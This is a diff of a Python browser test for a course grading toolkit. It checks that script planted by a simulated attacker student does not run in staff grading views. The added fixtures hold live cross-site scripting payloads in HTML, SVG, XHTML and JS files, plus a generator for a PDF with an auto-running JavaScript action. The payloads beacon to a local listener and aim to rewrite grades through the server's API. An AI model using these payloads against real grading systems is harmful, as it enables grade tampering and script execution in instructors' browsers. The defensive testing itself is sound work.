@@ -2,16 +2,22 @@
 
 One small class (an honest learner, one with a catalogued mistake, and the same
 mistake from an attacker whose outputs, markdown, raw cell, written answer,
-notebook metadata and an extra file all carry script) is graded with `make
-grade`, given feedback and a TA report. Then headless Chromium opens, as the
-instructor, formgrader's pages of the attacker's submission, the feedback page
-in JupyterLab, through /files/ and from disk, the TA report, the autograded notebook through
-/files/ and /nbconvert/, and the extra file. The script would send a beacon to a
+notebook metadata and files handed in beside the notebook (HTML, SVG, XHTML, a .js
+and a PDF with a JavaScript action) all carry script) is graded with `make
+grade`, given feedback and a TA report. Stock `jupyter lab` is started from the
+course root with nothing but the environment (no extension named on the command
+line: the environment enables coursekit.staff_server). Then headless Chromium
+opens, as the instructor, formgrader's pages of the attacker's submission, the
+feedback page in JupyterLab, through /files/ and from disk, the TA report, the
+autograded notebook through /files/ and /nbconvert/, and every file beside the
+notebook under whatever name it reached each folder. The script would send a beacon to a
 loopback listener the test runs and, with formgrader's _xsrf cookie, PUT every
 grade to full marks plus extra credit and a file through /api/contents. A
 control page (the submitted notebook rendered by plain nbconvert, from disk)
-shows the same script does fire there. Screenshots land next to the course
-(formgrader.png, formgrader_outputs.png, feedback.png) to look at.
+shows the same script does fire there, and the files beside the notebook fire
+opened from disk. formgrader renders the notebook's formulas with the server's
+own MathJax. Screenshots land next to the course (formgrader.png,
+formgrader_outputs.png, formgrader_math.png, feedback.png) to look at.
 """
 
 from __future__ import annotations
@@ -37,11 +43,12 @@ from tests.test_formgrader_browser import CHROMIUM, FLAGS
 
 ASSIGNMENT, NOTEBOOK = "ch3_multihead", "multihead"
 HONEST, PLAIN_MISTAKE, ATTACKER = "honest-01", "mistake-02", "mallory-03"
-STAFF_SERVER = "--ServerApp.jpserver_extensions={'coursekit.staff_server': True}"  # as make lab
 MISTAKE = (
     "def split_heads(M, h):\n    n, d_model = M.shape\n    return M.reshape(h, n, d_model // h)\n"
 )
 DIAGNOSIS = "짐작되는 실수 [reshape_without_transpose]"
+# The honest learner's written answer, with an inline formula for formgrader's MathJax.
+HONEST_ANSWER = "head 를 나눠도 $W_Q$ 는 $d_{model} \\times d_{model}$ 그대로입니다."
 
 # A table (pandas HTML) and a heatmap (image/png) every learner shows, as the course's cells do.
 SHOWN = """import matplotlib
@@ -87,6 +94,44 @@ def attack(port: int, where: str) -> str:
     return f'<script>{js}</script><img src="x" onerror="{js.replace(chr(34), "&quot;")}">'
 
 
+def minimal_pdf(js: str) -> bytes:
+    """A one-page PDF whose /OpenAction runs `js` (PDF JavaScript) when a viewer opens it."""
+    js_literal = js.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
+    objects = [
+        "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
+        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
+        f"<< /Type /Action /S /JavaScript /JS ({js_literal}) >>",
+    ]
+    out, offsets = b"%PDF-1.4\n", []
+    for number, body in enumerate(objects, 1):
+        offsets.append(len(out))
+        out += f"{number} 0 obj\n{body}\nendobj\n".encode("latin-1")
+    xref = len(out)
+    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
+    out += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
+    trailer = f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n"
+    return out + trailer.encode()
+
+
+def files_beside(port: int) -> dict[str, bytes]:
+    """The attacker's files handed in beside the notebook, each carrying the payload."""
+    svg_onload = payload(port, "file-svg-onload").replace('"', "&quot;")
+    return {
+        "notes.html": attack(port, "file-html").encode(),
+        "diagram.svg": (
+            f'<svg xmlns="http://www.w3.org/2000/svg" onload="{svg_onload}">'
+            f"<script>{payload(port, 'file-svg-script')}</script></svg>"
+        ).encode(),
+        "page.xhtml": (
+            '<html xmlns="http://www.w3.org/1999/xhtml"><body>'
+            f"<script>//<![CDATA[\n{payload(port, 'file-xhtml')}\n//]]></script></body></html>"
+        ).encode(),
+        "helper.js": payload(port, "file-js").encode(),
+        "report.pdf": minimal_pdf(f"app.launchURL('http://127.0.0.1:{port}/beacon/file-pdf');"),
+    }
+
+
 def hostile_outputs(port: int) -> str:
     """Code appended to the attacker's answer cell: displays produced when the grader re-runs it."""
     onload = payload(port, "svg-onload").replace('"', "&quot;")
@@ -114,7 +159,10 @@ def attacker_notebook(release, source, port: int):
             cell.source = "head 를 늘리면 d_head 가 줄어듭니다. " + attack(port, "written-answer")
     extra = [
         nbformat.v4.new_markdown_cell(
-            "제 풀이 노트: [notes.html](notes.html)\n\n" + attack(port, "markdown-cell")
+            "제 풀이 노트: "
+            + " ".join(f"[{name}]({name})" for name in files_beside(port))
+            + "\n\n"
+            + attack(port, "markdown-cell")
         ),
         nbformat.v4.new_raw_cell(attack(port, "raw-cell")),
     ]
@@ -130,6 +178,14 @@ def attacker_notebook(release, source, port: int):
             "x": f"</script><script>{payload(port, 'widget-state')}</script>",
         }
     }
+    return nb
+
+
+def honest_notebook(release, source):
+    nb = submissions.fill(release, source)
+    for cell in nb.cells:
+        if cell.metadata.get("nbgrader", {}).get("grade_id") == "why_256_answer":
+            cell.source = HONEST_ANSWER
     return nb
 
 
@@ -181,12 +237,13 @@ def staff_class(tmp_path_factory):
     listener = Listener()
     course.generate(ASSIGNMENT)
     release, source = course.release_notebook(ASSIGNMENT), course.source_notebook(ASSIGNMENT)
-    course.submit(HONEST, ASSIGNMENT, with_shown_cell(submissions.fill(release, source)))
+    course.submit(HONEST, ASSIGNMENT, with_shown_cell(honest_notebook(release, source)))
     plain = submissions.fill(release, source, replace={"split_heads": MISTAKE})
     course.submit(PLAIN_MISTAKE, ASSIGNMENT, with_shown_cell(plain))
     hostile = with_shown_cell(attacker_notebook(release, source, listener.port))
     folder = course.submit(ATTACKER, ASSIGNMENT, hostile)
-    (folder / "notes.html").write_text(attack(listener.port, "extra-file"), encoding="utf-8")
+    for name, content in files_beside(listener.port).items():
+        (folder / name).write_bytes(content)
     course.grade("-j", "2")
     course.run("generate_feedback", ASSIGNMENT, "--force")
     report = subprocess.run(
@@ -196,7 +253,8 @@ def staff_class(tmp_path_factory):
     assert report.returncode == 0, report.stdout[-2000:] + report.stderr[-2000:]
 
     try:
-        with running_lab(root, root / "runtime", root / "lab.log", STAFF_SERVER) as (base, token):
+        # Stock `jupyter lab` from the course root: the environment alone sets the policies.
+        with running_lab(root, root / "runtime", root / "lab.log") as (base, token):
             yield course, listener, base, token
     finally:
         listener.close()
@@ -226,6 +284,40 @@ def heatmap_drawn(page) -> bool:
     )
 
 
+def math_rendered(page) -> int:
+    """How many formulas MathJax typeset (its HTML-CSS output, or v3's element)."""
+    return page.evaluate(
+        "() => document.querySelectorAll('span.MathJax, div.MathJax_Display, mjx-container').length"
+    )
+
+
+def beside(folder) -> list[str]:
+    """The names of the files beside the notebook in `folder`, as they reached it."""
+    return sorted(p.name for p in folder.iterdir() if p.is_file() and p.suffix != ".ipynb")
+
+
+def open_file(page, listener, url: str, **goto) -> str | None:
+    """Goes to `url` and lets any script run: the suggested name if the browser downloads
+    it, None if it shows a page."""
+    from playwright.sync_api import Error
+
+    downloads = []
+
+    def downloaded(download):
+        downloads.append(download.suggested_filename)
+
+    page.on("download", downloaded)
+    try:
+        page.goto(url, **goto)
+    except Error as error:  # a download aborts the navigation, and says so
+        if "Download is starting" not in str(error) and not downloads:
+            raise
+        downloads.append(url.rsplit("/", 1)[-1])  # the event may come later
+    settle(page, listener, 0.5)
+    page.remove_listener("download", downloaded)
+    return downloads[0] if downloads else None
+
+
 def test_the_payload_is_live_outside_the_staff_views(staff_class, tmp_path):
     """Control: the attacker's submitted notebook, rendered by plain nbconvert, fires the beacon."""
     from playwright.sync_api import sync_playwright
@@ -243,11 +335,18 @@ def test_the_payload_is_live_outside_the_staff_views(staff_class, tmp_path):
             page = browser.new_page()
             page.goto(page_file.as_uri())
             settle(page, listener)
+            # The files beside the notebook, opened from disk, run their script too.
+            for name, content in files_beside(listener.port).items():
+                (tmp_path / name).write_bytes(content)
+                if name in ("notes.html", "diagram.svg", "page.xhtml"):
+                    page.goto((tmp_path / name).as_uri())
+                    settle(page, listener, 1.0)
         finally:
             browser.close()
     fired = listener.hits[before:]
     del listener.hits[before:]  # the control's beacons are not the staff views'
     assert {"/beacon/markdown-cell", "/beacon/written-answer"} <= set(fired), fired
+    assert {"/beacon/file-html", "/beacon/file-xhtml", "/beacon/file-svg-script"} <= set(fired)
 
 
 def test_no_learner_script_runs_in_formgrader_feedback_or_the_report(staff_class, tmp_path):
@@ -288,11 +387,38 @@ def test_no_learner_script_runs_in_formgrader_feedback_or_the_report(staff_class
             with page.expect_response(saved, timeout=60_000):
                 page.locator("input#why_256_answer").fill("1")
                 page.locator("input#why_256_answer").press("Tab")
-            # The attacker's extra file, linked from the notebook: a download, not a page.
-            with page.expect_download() as download:
-                page.click("a[href='notes.html']")
-            seen["download"] = download.value.suggested_filename
-            # Its neighbours and the lists that show submissions.
+            # The attacker's files, as the notebook links them (they may have reached
+            # autograded/ under another name: then a 404 page) ...
+            links = page.eval_on_selector_all(
+                "#notebook-container a[href]", "as => as.map(a => a.href)"
+            )
+            linked = [u for u in links if u.rsplit("/", 1)[-1] in files_beside(listener.port)]
+            assert len(linked) == len(files_beside(listener.port)), links
+            for url in linked:
+                open_file(page, listener, url)
+            # ... and under the names they have in autograded/: downloads, never pages
+            # (formgrader serves PNG/JPEG/GIF as images; the attacker handed in none).
+            reached = beside(root / autograded)
+            assert reached, "no file beside the notebook reached autograded/"
+            base_file = f"{base}/formgrader/submissions/{attacker}/"
+            seen["shown_as_page"] = [
+                name for name in reached if open_file(page, listener, base_file + name) is None
+            ]
+            # The course's own formulas, typeset by the server's MathJax under the policy,
+            # and an inline one in the honest learner's written answer.
+            page.goto(f"{base}/formgrader/submissions/{honest}/")
+            page.wait_for_function(
+                "() => document.querySelectorAll('span.MathJax, div.MathJax_Display,"
+                " mjx-container').length >= 4",
+                timeout=60_000,
+            )
+            seen["math"] = math_rendered(page)
+            seen["math_text"] = page.inner_text("#notebook-container")
+            answer = page.locator(".text_cell_render", has_text="그대로입니다").first
+            seen["inline_math"] = answer.locator("span.MathJax").count()
+            answer.scroll_into_view_if_needed()
+            page.screenshot(path=str(root / "formgrader_math.png"))
+            # The neighbours and the lists that show submissions.
             for path in (
                 f"/formgrader/submissions/{honest}/",
                 f"/formgrader/gradebook/{ASSIGNMENT}/{NOTEBOOK}",
@@ -307,9 +433,13 @@ def test_no_learner_script_runs_in_formgrader_feedback_or_the_report(staff_class
             page.click("text=Show All Names")
             page.locator(f"a.name-shown:text-is('{ATTACKER}')").wait_for(state="visible")
             # The same material under /files/ and /nbconvert/, and the feedback page.
+            lab = f"{base}/lab"
+            folders = [autograded, f"submitted/{ATTACKER}/{ASSIGNMENT}"]
+            folders.append(f"feedback/{ATTACKER}/{ASSIGNMENT}")
+            for folder in folders:
+                for name in beside(root / folder):
+                    open_file(page, listener, f"{base}/files/{folder}/{name}", referer=lab)
             for path in (
-                f"/files/{autograded}/notes.html",
-                f"/files/submitted/{ATTACKER}/{ASSIGNMENT}/notes.html",
                 f"/nbconvert/html/{autograded}/{NOTEBOOK}.ipynb?download=false",
                 f"/files/reports/{ASSIGNMENT}.html",
                 f"/files/feedback/{ATTACKER}/{ASSIGNMENT}/{NOTEBOOK}.html",
@@ -344,7 +474,13 @@ def test_no_learner_script_runs_in_formgrader_feedback_or_the_report(staff_class
     expected = {**before, "why_256_answer": (before["why_256_answer"][0], 1.0, None)}
     assert after == expected, (before, after)
     assert sorted(p.name for p in root.rglob("pwned_*")) == []
-    assert seen["download"] == "notes.html"
+    assert seen["shown_as_page"] == []
+
+    # MathJax typeset the two display formulas and the inline ones; no TeX left as text.
+    assert seen["math"] >= 4 and seen["inline_math"] == 2, (seen["math"], seen["inline_math"])
+    # MathJax found every part it asked for (its fonts included) on the server.
+    assert "404 GET /static/jupyter_server_mathjax/" not in (root / "lab.log").read_text()
+    assert "\\mathrm{softmax}" not in seen["math_text"] and "$W_Q$" not in seen["math_text"]
 
     assert DIAGNOSIS in seen["formgrader"]
     assert seen["formgrader_table"] and seen["formgrader_heatmap"]
